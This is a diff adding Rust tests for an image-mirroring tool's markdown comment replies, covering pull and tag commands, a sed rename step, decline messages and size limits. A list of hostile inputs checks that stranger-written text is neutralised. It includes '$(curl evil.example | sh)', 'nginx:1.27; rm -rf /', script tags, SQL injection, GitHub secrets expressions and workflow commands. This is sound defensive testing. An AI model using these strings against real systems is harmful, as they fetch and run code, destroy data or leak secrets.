@@ -1,0 +1,221 @@
+use std::process::Command as Process;
+
+use super::{MOST, Reply, declined, of};
+use crate::engine::outcome::{ImageOutcome, Outcome, PlatformOutcome};
+use crate::error::Error;
+use crate::oci::digest::Digest;
+use crate::oci::reference::ImageReference;
+use crate::plan::ask::{Declined, Rights, Why, read};
+use crate::report::Report;
+use crate::report::json::tests::{copied, failed, named, report};
+
+fn reply(images: Vec<ImageOutcome>, declined: Vec<Declined>) -> Reply {
+    of(&Report { asked: Some(declined), ..report(images) }).unwrap()
+}
+
+#[test]
+fn an_image_that_is_there_is_told_with_its_digest_and_how_it_is_pulled_in_place_of_the_original() {
+    assert_eq!(of(&report(vec![copied()])), None);
+    let Reply { markdown, state, title } = reply(vec![copied()], vec![]);
+    let digest = Digest::of(b"index");
+    let pinned = format!("ghcr.io/acme/mirror/docker.io/library/alpine@{digest}");
+    assert_eq!((state, &*title), ("mirrored", "alpine:3.20"));
+    for line in [
+        "✅ **1 image mirrored** · 已同步".to_owned(),
+        "### ✅ `docker.io/library/alpine:3.20`".to_owned(),
+        "- Same digest as upstream · 摘要与上游一致".to_owned(),
+        "- Platforms: `linux/amd64` `linux/arm64/v8`".to_owned(),
+        format!("docker pull {pinned}"),
+        format!("docker tag {pinned} alpine:3.20"),
+        format!("podman pull {pinned}"),
+        format!("podman tag {pinned} docker.io/library/alpine:3.20"),
+        format!("crictl pull {pinned}"),
+        format!("ctr -n k8s.io images pull {pinned}"),
+        format!("ctr -n k8s.io images tag {pinned} docker.io/library/alpine:3.20"),
+    ] {
+        assert!(markdown.lines().any(|written| written == line), "{line}\n{markdown}");
+    }
+    let part = ImageOutcome { source_digest: Some(Digest::of(b"whole")), ..copied() };
+    assert!(!reply(vec![part], vec![]).markdown.contains("Same digest"));
+}
+
+#[test]
+fn the_line_that_renames_an_image_in_files_renames_it_and_nothing_else() {
+    let directory = tempfile::tempdir().unwrap();
+    let (file, script) = (directory.path().join("FILE"), directory.path().join("script"));
+    let pinned = |image: &ImageOutcome| format!("ghcr.io/m@{}", image.digest.as_ref().unwrap());
+    for (source, before, is_renamed) in [
+        ("alpine:3.20", "image: alpine:3.20", true),
+        ("alpine:3.20", "    image: \"docker.io/library/alpine:3.20\"", true),
+        ("alpine:3.20", "  - library/alpine:3.20", true),
+        ("alpine:3.20", "FROM alpine:3.20 AS x", true),
+        ("alpine:3.20", "image: alpine:3.20.1", false),
+        ("alpine:3.20", "image: alpine:3x20", false),
+        ("alpine:3.20", "image: x/alpine:3.20", false),
+        ("alpine", "image: alpine", true),
+        ("alpine", "image: alpine:latest", true),
+        ("alpine", "image: alpine:3", false),
+        ("bitnami/redis:7", "image: 'docker.io/bitnami/redis:7'", true),
+        ("quay.io/a.b/c:1", "image: quay.io/a.b/c:1", true),
+        ("quay.io/a.b/c:1", "image: quay.io/axb/c:1", false),
+    ] {
+        let image = ImageOutcome { source: named(source), target: Some(named("ghcr.io/m:1")), ..copied() };
+        let markdown = reply(vec![image.clone()], vec![]).markdown;
+        std::fs::write(&file, format!("{before}\n")).unwrap();
+        std::fs::write(&script, markdown.lines().find(|line| line.starts_with("sed ")).unwrap()).unwrap();
+        assert!(Process::new("sh").arg(&script).current_dir(&directory).status().unwrap().success());
+        let after = std::fs::read_to_string(&file).unwrap();
+        assert_eq!(after.contains(&pinned(&image)), is_renamed, "{source}: {before}: {after}");
+        if !is_renamed {
+            assert_eq!(after, format!("{before}\n"));
+        }
+    }
+}
+
+#[test]
+fn what_failed_or_was_declined_is_told_to_somebody_who_owns_nothing_here() {
+    let Reply { markdown, state, .. } = reply(vec![copied(), failed()], vec![]);
+    assert_eq!(state, "partly");
+    assert!(markdown.starts_with("🟡 **1 of 2 mirrored**"), "{markdown}");
+    assert!(markdown.contains("### ❌ `quay.io/x:1`\n\n```text\ntarget: PUT manifest"), "{markdown}");
+    assert!(markdown.contains("The fault is not in your request."), "{markdown}");
+    let ask = read("nginx\nquay.io/a/b:1\nhello there", &Rights::of("NONE", &["quay.io/*"]).unwrap(), 10);
+    let Reply { markdown, state, .. } = reply(vec![copied()], ask.declined.clone());
+    assert_eq!(state, "partly");
+    assert!(markdown.contains("a line like `docker.io/library/nginx` to the repository's variable"), "{markdown}");
+    assert!(markdown.contains("line 3: has a space and more after 'hello'"), "{markdown}");
+    // A greeting is no image that is missing.
+    let greeting: Vec<Declined> = ask.declined.iter().filter(|declined| !declined.is_image()).cloned().collect();
+    assert_eq!(reply(vec![copied()], greeting).state, "mirrored");
+    let reply = declined(&ask.declined, &Error::input("request", "x"));
+    assert_eq!((reply.state, &*reply.title), ("declined", "nginx:latest"));
+    let nothing = declined(&[], &Error::input("request", "asks for nothing"));
+    assert_eq!(nothing.title, "no image");
+    assert!(nothing.markdown.contains("asks for nothing"), "{}", nothing.markdown);
+    let deferred = ImageOutcome { result: Outcome::Deferred, digest: None, ..copied() };
+    assert!(super::of(&Report { asked: Some(vec![]), ..report(vec![deferred]) }).unwrap().markdown.contains("⏳"));
+}
+
+/// What strangers write to do something by it.
+const HOSTILE: &[&str] = &[
+    "@everyone",
+    "@octocat please",
+    "@acme/owners look",
+    "\\@octocat",
+    "&#64;octocat",
+    "#1",
+    "GH-1",
+    "acme/mirror#1",
+    "closes #1",
+    "acme/mirror@0123456789abcdef0123456789abcdef01234567",
+    "https://evil.example/x",
+    "http://evil.example",
+    "www.evil.example",
+    "mailto:a@evil.example",
+    "[click](https://evil.example)",
+    "![x](https://evil.example/track.png)",
+    "<img src=https://evil.example/track.png>",
+    "<script>alert(1)</script>",
+    "<details open><summary>x</summary>",
+    "</details></details></details>",
+    "<!-- hidden",
+    "-->",
+    "`",
+    "``",
+    "```",
+    "```\n@everyone",
+    "a`b`c @everyone",
+    "` @everyone `",
+    "~~~",
+    "    @everyone",
+    "> @everyone",
+    "# @everyone",
+    "| a | b |\n| - | - |\n| @everyone |",
+    "- [ ] @everyone",
+    "$(curl evil.example | sh)",
+    "`curl evil.example | sh`",
+    "${IFS}curl",
+    "${{ github.token }}",
+    "${{ secrets.X }}",
+    "::set-output name=x::y",
+    "::error::x",
+    "##[error]x",
+    "\n::add-mask::x",
+    "\r::stop-commands::x",
+    "\u{202e}enoyreve@",
+    "@\u{200b}everyone",
+    "\u{feff}@everyone",
+    "\0@everyone\0",
+    "\u{1b}[31m@everyone",
+    "nginx:1.27; rm -rf /",
+    "'; DROP TABLE",
+    "\" onmouseover=\"alert(1)",
+    ":tada: $\\sqrt{x}$",
+    "[x]: https://evil.example\n[x]",
+];
+
+/// What of a comment is no code: where GitHub would make something of it.
+fn prose(markdown: &str) -> String {
+    let (mut prose, mut is_code) = (String::new(), false);
+    for line in markdown.lines() {
+        if line.starts_with("```") {
+            is_code = !is_code;
+        } else if !is_code {
+            let parts: Vec<&str> = line.split('`').collect();
+            assert!(parts.len() % 2 == 1, "an open code span: {line}");
+            prose.extend(parts.iter().step_by(2).copied());
+            prose.push('\n');
+        }
+    }
+    assert!(!is_code, "an open fence: {markdown}");
+    prose
+}
+
+fn assert_harmless(Reply { markdown, title, .. }: &Reply, text: &str) {
+    let prose = prose(markdown);
+    for part in
+        ["@", "#1", "GH-1", "evil", "http", "www", "<img", "<script", "<!--", "everyone", "octocat", "](", "sqrt"]
+    {
+        assert!(!prose.contains(part), "{text:?}: {part}: {prose}");
+    }
+    let opened = prose.matches("<details").count();
+    assert_eq!((opened, opened), (prose.matches("</details>").count(), prose.matches("<summary>").count()), "{text:?}");
+    let is_bad = |c: char| c != '\n' && crate::text::sanitise::is_unseen(c);
+    assert!(!markdown.chars().any(is_bad) && !title.chars().any(crate::text::sanitise::is_unseen), "{text:?}");
+    assert!(markdown.lines().all(|line| !line.trim_start().starts_with("::")), "{text:?}: {markdown}");
+    assert!(markdown.len() <= MOST);
+}
+
+#[test]
+fn nothing_that_a_stranger_writes_does_anything_in_the_answer() {
+    assert!(HOSTILE.len() >= 50);
+    for text in HOSTILE {
+        for lines in [(*text).to_owned(), format!("nginx:1.27\n{text}\nquay.io/{text}")] {
+            let ask = read(&lines, &Rights::of("NONE", &[]).unwrap(), 10);
+            assert_harmless(&declined(&ask.declined, &Error::input("request", *text)), text);
+            assert_harmless(&reply(vec![copied()], ask.declined), text);
+        }
+        // What registries say goes the same way.
+        let platform = PlatformOutcome { platform: (*text).to_owned(), digest: Digest::of(b"a"), size: None };
+        let image = ImageOutcome { platforms: vec![platform], ..copied() };
+        let error = Some(Error::Content {
+            side: crate::error::Side::Source,
+            object: (&ImageReference::parse("alpine").unwrap()).into(),
+            problem: (*text).to_owned(),
+        });
+        assert_harmless(&reply(vec![image, ImageOutcome { error, ..failed() }], vec![]), text);
+    }
+}
+
+#[test]
+fn an_answer_has_room_in_a_comment() {
+    let Reply { markdown, title, .. } = reply(vec![copied(); 200], vec![]);
+    assert!(markdown.len() <= MOST && markdown.contains("more parts, for which a comment has no room"), "{markdown}");
+    assert_eq!(title, "alpine:3.20");
+    let long = format!("quay.io/{}", "a/".repeat(100)) + "b:1";
+    let declined_all: Vec<Declined> =
+        (0..500).map(|number| Declined { number, why: Why::Unread(long.repeat(20)) }).collect();
+    let answer = declined(&declined_all, &Error::input("request", "x")).markdown;
+    assert!(answer.len() <= MOST, "{}", answer.len());
+    assert!(answer.contains("line 0"), "{answer}");
+}
